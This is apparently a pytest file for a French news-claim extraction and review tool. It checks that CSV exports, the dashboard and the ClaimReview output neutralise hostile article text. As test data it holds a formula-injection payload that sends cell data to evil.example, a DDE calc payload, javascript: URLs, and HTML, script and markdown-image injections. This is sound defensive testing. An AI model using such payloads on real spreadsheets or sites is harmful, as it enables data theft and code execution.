"""Issue 12: one bad article never stops a run, nothing an article says runs anywhere, no verdict is
overwritten unseen. Each test repeats an attack that succeeded on release 0.2."""
from __future__ import annotations

import hashlib
import sqlite3
import subprocess
import sys
import threading

import pandas as pd
import pytest
from conftest import ROOT, SEED, garble_pages, ingest

from claims.safe import FORMULA_START
from claims.store import ConflictError, StoreError, open_store

POMPEO = "Les Russes doivent partir"
IRAN = "En outre, celui-ci a fustigé l’implication iranienne et cubaine dans le conflit. "


def run(*args: str, cwd=ROOT) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "claims", *args], cwd=cwd, capture_output=True, text=True)


def told(res: subprocess.CompletedProcess, *words: str) -> bool:
    """Exit code 2 with a one-line message holding `words`, and no traceback."""
    return res.returncode == 2 and "Traceback" not in res.stderr and all(w in res.stderr for w in words)


def digest(path) -> str:
    return hashlib.sha256(open(path, "rb").read()).hexdigest()


def claim_with(store, fragment: str):
    df = store.claims_frame()
    return df[df["text"].str.contains(fragment, regex=False)].iloc[0]


# 1 ------------------------------------------------------------------------------------------------
def test_a_claim_that_comes_back_never_returns_at_an_older_version(store, tmp_path):
    claim = claim_with(store, "implication iranienne")
    assert store.set_status(claim.claim_id, "false", version=1, note="faux", reviewer="ana") == 2
    edited = tmp_path / SEED.name
    edited.write_text(SEED.read_text(encoding="utf-8").replace(IRAN, ""), encoding="utf-8")
    ingest(store, [edited])
    assert store.find_claim(claim.claim_id) is None
    ingest(store, [SEED])  # the paragraph is back
    back = store.claim(claim.claim_id)
    assert (back["status"], back["note"], back["version"]) == ("false", "faux", 2)
    with pytest.raises(ConflictError):  # read before the verdict: refused, not an overwrite
        store.set_status(claim.claim_id, "true", version=1, reviewer="bob")
    assert store.claim(claim.claim_id)["status"] == "false"
    assert store.set_status(claim.claim_id, "true", version=2, reviewer="bob") == 3


# 2 ------------------------------------------------------------------------------------------------
TEXT_COLUMNS = ["text", "sentence_text", "speaker", "note", "reviewer", "article_title",
                # the same columns under the headers of the store's exports (claims.exports)
                "Claim", "Claim span", "Sentence", "Speaker", "Verdict note", "Reviewer", "Article title"]


def assert_neutral(frame: pd.DataFrame) -> None:
    for col in TEXT_COLUMNS:
        if col in frame:
            risky = [v for v in frame[col] if isinstance(v, str) and v.startswith(FORMULA_START)]
            assert not risky, (col, risky)


def test_csv_cells_never_start_a_formula(store, tmp_path):
    from claims.store.export import export, export_bytes, export_store

    claim = claim_with(store, POMPEO)
    store.set_status(claim.claim_id, "false", version=1, note='=HYPERLINK("http://evil.example/?"&A1,"x")',
                     reviewer="@ana")
    with store.engine.begin() as conn:  # claim text and speaker as an article could make them
        conn.exec_driver_sql("update claims set text = '+cmd|'' /C calc''!A0', speaker = '-2+3' "
                             f"where claim_id = '{claim.claim_id}'")
    read = lambda p: pd.read_csv(p, dtype=str, keep_default_na=False, encoding="utf-8-sig")  # noqa: E731
    outputs = {}
    export_store(store, str(tmp_path / "fast.csv"), "csv")  # the Arrow path on SQLite
    outputs["fast"] = read(tmp_path / "fast.csv")
    export(store.claims_frame(), str(tmp_path / "frames.csv"), "csv")
    outputs["frames"] = read(tmp_path / "frames.csv")
    (tmp_path / "download.csv").write_bytes(export_bytes(store.claims_frame(), "csv"))
    outputs["download"] = read(tmp_path / "download.csv")
    for name, df in outputs.items():
        row = df[df["Claim ID"] == claim.claim_id].iloc[0]
        assert row["Verdict note"] == '\'=HYPERLINK("http://evil.example/?"&A1,"x")', name
        assert (row["Claim span"], row["Speaker"], row["Reviewer"]) == ("'+cmd|' /C calc'!A0", "'-2+3", "'@ana"), name
        assert row["Speaker start"].lstrip("-").isdigit(), "numbers stay numbers"
        assert_neutral(df)
    jsonl = pd.read_json(tmp_path / "x.jsonl", lines=True) if export(
        store.claims_frame(), str(tmp_path / "x.jsonl"), "jsonl") else None
    assert '=HYPERLINK("http://evil.example/?"&A1,"x")' in set(jsonl["note"]), "JSONL keeps the exact text"


def test_extract_to_csv_neutralises_claims_from_the_article(tmp_path):
    art = tmp_path / "tableur.txt"
    art.write_text("« =1+1 », a déclaré Marie Dupont.\n\n« @SUM(A1) », a lancé le ministre Paul Martin.\n",
                   encoding="utf-8")
    res = run("extract", str(art), "-o", str(tmp_path / "o.csv"), "--quiet")
    assert res.returncode == 0, res.stderr
    df = pd.read_csv(tmp_path / "o.csv", dtype=str, keep_default_na=False)
    assert set(df["text"]) == {"'=1+1", "'@SUM(A1)"}
    assert_neutral(df)


# 3 ------------------------------------------------------------------------------------------------
def test_file_names_that_are_not_utf8_are_read(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    name = b"caf\xe9.txt"
    (bytes(folder) + b"/" + name).decode  # noqa: B018 (a bytes path: the name is not valid UTF-8)
    with open(bytes(folder) + b"/" + name, "wb") as fh:
        fh.write("Selon la police, trois personnes ont été arrêtées.".encode())
    res = run("extract", str(folder), "-o", str(tmp_path / "o.csv"), "--quiet")
    assert res.returncode == 0 and "Traceback" not in res.stderr, res.stderr
    assert list(pd.read_csv(tmp_path / "o.csv")["article_id"]) == ["café"]
    db = tmp_path / "s.db"
    res = run("ingest", str(folder), "--db", str(db), "--quiet", "--processes", "1")
    assert res.returncode == 0 and "1 new" in res.stderr, res.stderr
    assert open_store(str(db)).claims_frame()["article_id"].tolist() == ["café"]


def test_a_nul_byte_deep_in_a_file_is_stored_on_every_database(db_url, tmp_path):
    text = "Selon la police, trois personnes ont été arrêtées. " * 200  # past the first 8 KB
    art = tmp_path / "nul.txt"
    art.write_bytes(text.encode() + b"\x00" + "« Tout va bien », a déclaré Marie Dupont.".encode())
    good = tmp_path / "ok.txt"
    good.write_text("« Non », a dit Paul Martin.", encoding="utf-8")
    res = run("ingest", str(art), str(good), "--db", db_url, "--quiet", "--processes", "1")
    assert res.returncode == 0 and "2 new" in res.stderr, res.stderr
    assert "nul.txt: NUL bytes in the text, replaced" in res.stderr
    df = open_store(db_url).claims_frame()
    assert {"nul", "ok"} == set(df["article_id"]) and "Marie Dupont" in set(df["speaker"])


def test_an_article_the_database_refuses_is_named_and_the_others_stored(db_url):
    from claims.articles import Article
    from claims.extract import extract_rows

    store = open_store(db_url)
    if store.is_sqlite:  # SQLite stores any length: make it refuse like a server would
        with store.engine.begin() as conn:
            conn.exec_driver_sql("create trigger refuse before insert on articles when length(new.article_id) > 255 "
                                 "begin select raise(abort, 'value too long'); end")
    arts = [Article(article_id="a", text="« Non », a dit Paul Martin."),
            Article(article_id="x" * 300, text="« Oui », a dit Marie Dupont.", source="long-name.txt"),
            Article(article_id="b", text="Selon la police, trois personnes ont été arrêtées.")]
    problems: list[str] = []
    totals = store.ingest_batches([(arts, extract_rows(arts))], problems)
    assert totals["new"] == 2 and set(store.claims_frame()["article_id"]) == {"a", "b"}
    assert len(problems) == 1 and problems[0].startswith("long-name.txt: not stored, the database refused it")


# 4 and 5 --------------------------------------------------------------------------------------------
EVIL = {"title": ":red[pwned] $$x^2$$ <img src=http://127.0.0.1:9/t.png>",
        "date": "![d](http://127.0.0.1:9/date.png)", "url": "javascript:alert(1)", "outlet": "[o](http://x/o.png)"}


def test_article_metadata_is_shown_as_text_and_only_http_links(tmp_path):
    from dashboard.review import article_meta_html, claim_facts_html

    row = pd.Series({"article_title": EVIL["title"], "article_id": "a", "published": EVIL["date"],
                     "url": EVIL["url"], "outlet": EVIL["outlet"]})
    out = article_meta_html(row)
    assert "<img" not in out and "href" not in out and "javascript" not in out
    assert "&lt;img src=http://127.0.0.1:9/t.png&gt;" in out and ":red[pwned] $$x^2$$" in out
    assert "![d](http://127.0.0.1:9/date.png)" in out  # the text as written, for the reviewer to see
    row["url"] = "https://example.org/a?b=1&c=<2>"
    assert '<a href="https://example.org/a?b=1&amp;c=&lt;2&gt;" target="_blank"' in article_meta_html(row)
    facts = claim_facts_html(pd.Series({"speaker": "<b>X</b>", "speaker_type": "person", "speaker_mention": "*m*",
                                        "speaker_resolution": "", "cue": "dire", "kind": "direct",
                                        "certainty": "reported", "markers_text": "", "about_text": ":red[a]",
                                        "status": "false", "reviewer": "<script>x</script>"}))
    assert "<b>X" not in facts and "<script>" not in facts and "&lt;script&gt;" in facts


def test_the_claim_detail_renders_no_markdown_from_the_article(tmp_path, monkeypatch):
    from streamlit.testing.v1 import AppTest

    art = tmp_path / "piege.md"
    art.write_text("---\n" + "".join(f"{k}: {v}\n" for k, v in EVIL.items()) + "---\n\n"
                   "« Les Russes doivent partir », a lancé Mike Pompeo.\n", encoding="utf-8")
    db = tmp_path / "desk.db"
    ingest(open_store(str(db)), [art])
    monkeypatch.setenv("CLAIMS_DB", str(db))
    monkeypatch.setitem(sys.modules, "__main__", sys.modules["__main__"])
    at = AppTest.from_file(str(ROOT / "dashboard" / "app.py"), default_timeout=120).run()
    assert not at.exception
    markdown = " ".join(m.value for m in at.markdown)
    assert "date.png" not in markdown and ":red[pwned]" not in markdown and "javascript" not in markdown
    html = " ".join(h.proto.body for h in at.html)
    assert ":red[pwned] $$x^2$$ &lt;img" in html and "![d](http://127.0.0.1:9/date.png)" in html
    assert "javascript:" not in html


def test_claimreview_publishes_only_http_urls(store):
    from claims.store.export import claim_reviews

    claim = claim_with(store, POMPEO)
    store.set_status(claim.claim_id, "false", version=1)
    for url, published in (("javascript:alert(1)", False), ("data:text/html,<b>", False), ("//evil.example", False),
                           ("https://news.example/a", True)):
        with store.engine.begin() as conn:
            conn.exec_driver_sql(f"update articles set url = '{url}'")
        appearance = claim_reviews(store.claims_frame())[0]["itemReviewed"]["appearance"][0]
        assert ("url" in appearance) == published and appearance.get("url", url) == url


# 6 ------------------------------------------------------------------------------------------------
def test_a_database_with_garbled_pages_is_refused_with_the_way_out(tmp_path):
    db = tmp_path / "claims.db"
    s = open_store(str(db))
    ingest(s, [SEED])
    s.engine.dispose()
    garble_pages(db)
    before = digest(db)
    with pytest.raises(StoreError, match=r"damaged .*claims restore BACKUP .*\.recover"):
        open_store(str(db))
    for args in (["export", "-o", str(tmp_path / "x.csv")], ["history", "abc"], ["ingest", str(SEED), "--quiet"]):
        res = run(*args, "--db", str(db))
        assert told(res, "claims.db: the database is damaged"), (args, res.stderr)
    assert digest(db) == before


# 7 ------------------------------------------------------------------------------------------------
def test_mistakes_on_the_command_line_get_messages_not_tracebacks(tmp_path):
    (tmp_path / "garbage.jsonl").write_text("this is not json\n", encoding="utf-8")
    (tmp_path / "wrong.jsonl").write_text('{"a": 1}\n', encoding="utf-8")
    db = str(tmp_path / "s.db")
    cases = {
        ("export", "--db", db, "-o", "/nonexistent/dir/x.csv"): "the folder /nonexistent/dir does not exist",
        ("extract", str(SEED), "-o", "/nonexistent/dir/x.csv"): "the folder /nonexistent/dir does not exist",
        ("export", "--db", db, "--format", "jsonl", "-o", str(tmp_path / "x.csv")): "must end in .jsonl",
        ("export", "--db", db, "--format", "claimreview", "-o", str(tmp_path / "x.csv")): "must end in .json",
        ("evaluate", str(tmp_path / "missing.jsonl")): "missing.jsonl: no such file",
        ("evaluate", str(tmp_path / "garbage.jsonl")): "garbage.jsonl, line 1: not JSON",
        ("evaluate", str(tmp_path / "wrong.jsonl")): "wrong.jsonl, line 1: not a gold item (missing id, text",
        ("backup", str(tmp_path / "nope" / "b.db"), "--db", db): "the folder",
        ("restore", str(tmp_path / "missing.db"), "--db", db): "missing.db: no such backup file",
    }
    for args, message in cases.items():
        assert told(run(*args), message), (args, run(*args).stderr)
    assert not (tmp_path / "x.csv").exists()


def test_utf16_files_are_read_and_link_loops_named(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "u16.txt").write_bytes("\ufeff« Non », a dit Paul Martin.".encode("utf-16-le"))
    (folder / "boucle.txt").symlink_to(folder / "boucle.txt")
    (folder / "retour").symlink_to(folder)
    res = run("extract", str(folder), "-o", str(tmp_path / "o.csv"), "--quiet")
    assert res.returncode == 0, res.stderr
    assert "boucle.txt: a symbolic link that loops back on itself; skipped" in res.stderr
    assert "retour: a symbolic link that loops back to a folder already read; skipped" in res.stderr
    df = pd.read_csv(tmp_path / "o.csv")
    assert list(df["speaker"]) == ["Paul Martin"] and list(df["article_id"]) == ["u16"]


# 8 ------------------------------------------------------------------------------------------------
def test_history_of_a_removed_claim_shows_its_orphaned_reviews(tmp_path):
    db = str(tmp_path / "s.db")
    store = open_store(db)
    ingest(store, [SEED])
    claim = claim_with(store, "implication iranienne")
    store.set_status(claim.claim_id, "misleading", version=1, note="contexte manquant", reviewer="ana")
    edited = tmp_path / SEED.name
    edited.write_text(SEED.read_text(encoding="utf-8").replace(IRAN, ""), encoding="utf-8")
    ingest(store, [edited])
    res = run("history", claim.claim_id, "--db", db)
    assert res.returncode == 0, res.stderr
    assert "no longer in its article" in res.stdout and "implication iranienne" in res.stdout
    assert "unverified → misleading  contexte manquant  (orphaned" in res.stdout
    assert told(run("history", "0000000000000000", "--db", db), "no claim with id '0000000000000000'")


# 9 ------------------------------------------------------------------------------------------------
def test_another_applications_database_is_refused_unless_init(tmp_path):
    db = tmp_path / "contacts.db"
    with sqlite3.connect(db) as con:
        con.execute("create table contacts (name text, phone text)")
        con.execute("insert into contacts values ('Ana', '0600')")
    con.close()
    before = digest(db)
    res = run("ingest", str(SEED), "--db", str(db), "--quiet", "--processes", "1")
    assert told(res, "not a claims store", "contacts", "--init")
    assert digest(db) == before
    with pytest.raises(StoreError, match="not a claims store"):
        open_store(str(db))
    res = run("ingest", str(SEED), "--db", str(db), "--quiet", "--processes", "1", "--init")
    assert res.returncode == 0, res.stderr
    with sqlite3.connect(db) as con:
        assert con.execute("select * from contacts").fetchall() == [("Ana", "0600")]
    assert len(open_store(str(db)).claims_frame()) == 25  # now a claims store: opens without --init


# backups --------------------------------------------------------------------------------------------
def test_backup_while_reviewers_write_then_restore_finds_every_verdict(tmp_path):
    db = str(tmp_path / "desk.db")
    store = open_store(db)
    ingest(store, [SEED])
    ids = list(store.claims_frame()["claim_id"])
    for cid in ids[:10]:
        store.set_status(cid, "false", version=1, note=f"note {cid}", reviewer="ana")
    stop = threading.Event()

    def reviewer():  # the dashboard saving verdicts during the backup
        other = open_store(db)
        v = 1
        while not stop.is_set():
            v = other.set_status(ids[-1], "in_review" if v % 2 else "true", version=v, reviewer="bob")

    th = threading.Thread(target=reviewer)
    th.start()
    try:
        res = run("backup", str(tmp_path / "b.db"), "--db", db)
    finally:
        stop.set()
        th.join()
    assert res.returncode == 0 and "25 claims" in res.stderr, res.stderr
    assert told(run("backup", str(tmp_path / "b.db"), "--db", db), "already exists")

    with store.engine.begin() as conn:  # disaster: verdicts wiped
        conn.exec_driver_sql("update claims set status = 'unverified', note = ''")
        conn.exec_driver_sql("delete from reviews")
    res = run("restore", str(tmp_path / "b.db"), "--db", db)
    assert res.returncode == 0 and "the database it replaced is kept as" in res.stderr, res.stderr
    df = open_store(db).claims_frame().set_index("claim_id")
    for cid in ids[:10]:
        assert (df.loc[cid, "status"], df.loc[cid, "note"]) == ("false", f"note {cid}")
        assert list(store.history(cid)["new_status"]) == ["false"]  # the open store sees it too
    kept = next(tmp_path.glob("desk.db.before-restore-*"))
    with sqlite3.connect(kept) as con:
        assert con.execute("select count(*) from reviews").fetchone()[0] == 0  # what it replaced, kept


def test_backup_of_each_database(db_url, tmp_path):
    open_store(db_url).engine.dispose()
    res = run("backup", str(tmp_path / "b.db"), "--db", db_url)
    if "://" in db_url:  # PostgreSQL: the server's own tools, named
        assert told(res, "pg_dump -Fc", "pg_restore") and not (tmp_path / "b.db").exists()
    else:
        assert res.returncode == 0 and (tmp_path / "b.db").exists(), res.stderr


def test_user_text_in_messages_is_escaped_for_markdown():
    import re

    from claims.safe import escape_markdown

    for text in ("![x](http://127.0.0.1:9/x.png).txt", ":red[rouge] $$x^2$$", "a_b*c* <b>é</b> `c` \\ ~~s~~", "café"):
        escaped = escape_markdown(text)
        assert re.sub(r"\\(.)", r"\1", escaped) == text  # the same text, once unescaped
        assert not re.search(r"(?<!\\)[!\[\]()$:*_`<>~]", escaped.replace("\\\\", ""))  # no live markup left
